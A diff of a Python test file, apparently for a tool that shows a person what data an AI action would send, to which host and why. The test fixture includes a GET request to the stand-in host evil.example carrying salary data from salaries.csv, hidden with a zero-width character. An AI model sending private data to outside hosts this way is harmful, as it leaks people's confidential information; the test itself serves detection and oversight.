@@ -198,12 +198,12 @@ def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
     assert asks.target == "evil.example"
     wire, _, clear = asks.leaves.splitlines()
     assert wire == "GET https://evil.example/?d=%73alary%20184%E2%80%8B"
-    assert clear == "GET https://evil.example/?d=salary 184\\u{200b}"
-    assert "salaries.csv" in asks.why
-    query = private().judge(FIND, Words(query="salary\ufe0f\U000e0041 184,200")).asks
+    assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
+    assert asks.why == "a model put this together or took it from the web, and could see salaries.csv"
+    query = private().judge(FIND, Words(query="salary 184,200")).asks
     assert query is not None
     assert query.target == "engine.example"
-    assert query.leaves.splitlines()[-1] == "salary\\u{fe0f}\\u{e0041} 184,200"
+    assert query.leaves.splitlines()[-1] == "salary 184,200"
 
 
 def test_what_cannot_be_shown_whole_is_not_asked() -> None:
